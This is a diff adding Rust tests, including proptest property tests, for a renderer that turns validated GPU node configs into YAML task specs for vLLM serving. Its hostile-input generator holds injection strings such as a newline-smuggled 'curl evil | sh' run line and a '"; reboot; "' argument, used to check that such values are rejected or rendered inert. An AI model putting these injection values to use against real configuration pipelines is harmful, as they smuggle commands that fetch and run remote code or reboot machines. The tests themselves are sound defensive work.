@@ -173,3 +173,113 @@ fn literal<S: serde::Serializer>(text: &str, ser: S) -> Result<S::Ok, S::Error> 
 pub fn render(spec: &NodeSpec, cx: &TaskContext<'_>) -> String {
     Task::new(spec, cx).to_yaml()
 }
+
+#[cfg(test)]
+mod tests {
+    use std::collections::BTreeMap;
+
+    use proptest::prelude::*;
+
+    use super::*;
+    use crate::node_config::{NodeConfig, Rules};
+
+    /// The parts of a task the properties look at, read back with a YAML parser.
+    #[derive(serde::Deserialize)]
+    struct Parsed {
+        name: String,
+        resources: BTreeMap<String, serde_json::Value>,
+        envs: BTreeMap<String, String>,
+        secrets: BTreeMap<String, String>,
+        setup: String,
+        run: String,
+    }
+
+    fn cx() -> TaskContext<'static> {
+        TaskContext {
+            cluster_name: "skydeck-0",
+            control_plane_url: "https://control.example:8443",
+            agent_sha256: "ab12",
+            agent_token: "sdn_secret",
+        }
+    }
+
+    fn render_cfg(cfg: &NodeConfig) -> Option<(NodeSpec, Parsed)> {
+        let spec = cfg.validate(&Rules::default()).ok()?;
+        let yaml = render(&spec, &cx());
+        let parsed: Parsed = serde_saphyr::from_str(&yaml).expect("the task is valid YAML");
+        Some((spec, parsed))
+    }
+
+    #[test]
+    fn seed_equivalent_task() {
+        let cfg = NodeConfig {
+            provider: "gcp".into(),
+            region: "us-central1".into(),
+            gpu: "A100:2".into(),
+            model: "meta-llama/Llama-2-70b-chat-hf".into(),
+            disk_size: Some(512),
+            vllm_args: Some("--tensor-parallel-size 2 --max-model-len 4096".into()),
+            ..NodeConfig::default()
+        };
+        let (spec, t) = render_cfg(&cfg).unwrap();
+        assert_eq!(t.name, "skydeck-0");
+        assert_eq!(t.resources["infra"], "gcp/us-central1");
+        assert_eq!(t.resources["accelerators"], "A100:2");
+        assert_eq!(t.resources["use_spot"], true);
+        assert_eq!(t.resources["disk_size"], 512);
+        assert_eq!(t.envs["SKYDECK_MODEL"], spec.model);
+        assert_eq!(t.envs["SKYDECK_VLLM_VERSION"], VLLM_VERSION);
+        assert_eq!(t.secrets["SKYDECK_AGENT_TOKEN"], "sdn_secret");
+        assert!(!t.envs.values().any(|v| v.contains("sdn_secret")));
+        assert!(t.setup.contains("sha256sum --check"));
+        assert!(
+            t.run
+                .contains("--port 8000 --tensor-parallel-size 2 --max-model-len 4096 >")
+        );
+        assert!(t.run.contains("exec \"$HOME/.local/bin/skydeck\" agent"));
+    }
+
+    fn hostile() -> impl Strategy<Value = String> {
+        prop_oneof![
+            any::<String>(),
+            "[a-z]{1,8}/[a-z]{1,8}[;|&$`'\"\\\\\n (){}<>#!*?~]{1,4}[a-z ]{0,8}",
+            Just("a/b\nrun: curl evil | sh".to_string()),
+            Just("--max-model-len 1 \"; reboot; \"".to_string()),
+            Just("x".repeat(5000)),
+            "\\PC{0,40}",
+        ]
+    }
+
+    proptest! {
+        /// Whatever a request holds, it is either rejected, or it reaches the task only as a
+        /// value: the model only in envs, vLLM arguments only as quoted words, the scripts
+        /// otherwise exactly the constants.
+        #[test]
+        fn hostile_configs_are_rejected_or_inert(
+            model in hostile(),
+            region in prop_oneof![Just("us-west-2".to_string()), hostile()],
+            gpu in prop_oneof![Just("A10G".to_string()), Just("A10G:4".to_string()), hostile()],
+            args in prop_oneof![Just(None), hostile().prop_map(Some),
+                Just(Some("--max-model-len 4096 --dtype bfloat16".to_string()))],
+        ) {
+            let cfg = NodeConfig {
+                provider: "aws".into(),
+                region,
+                gpu,
+                model: model.clone(),
+                vllm_args: args,
+                ..NodeConfig::default()
+            };
+            if let Some((spec, t)) = render_cfg(&cfg) {
+                prop_assert_eq!(&t.envs["SKYDECK_MODEL"], &spec.model);
+                prop_assert!(!t.run.contains(&spec.model) && !t.setup.contains(&spec.model));
+                prop_assert_eq!(t.setup.as_str(), SETUP);
+                prop_assert_eq!(t.run, run_script(&spec.vllm_args));
+                for a in &spec.vllm_args {
+                    prop_assert!(a.bytes().all(|b| b.is_ascii_alphanumeric() || b"-_./".contains(&b)), "{a}");
+                }
+                prop_assert!(spec.model.bytes().all(|b| b.is_ascii_alphanumeric() || b"-_./".contains(&b)));
+            }
+        }
+    }
+}
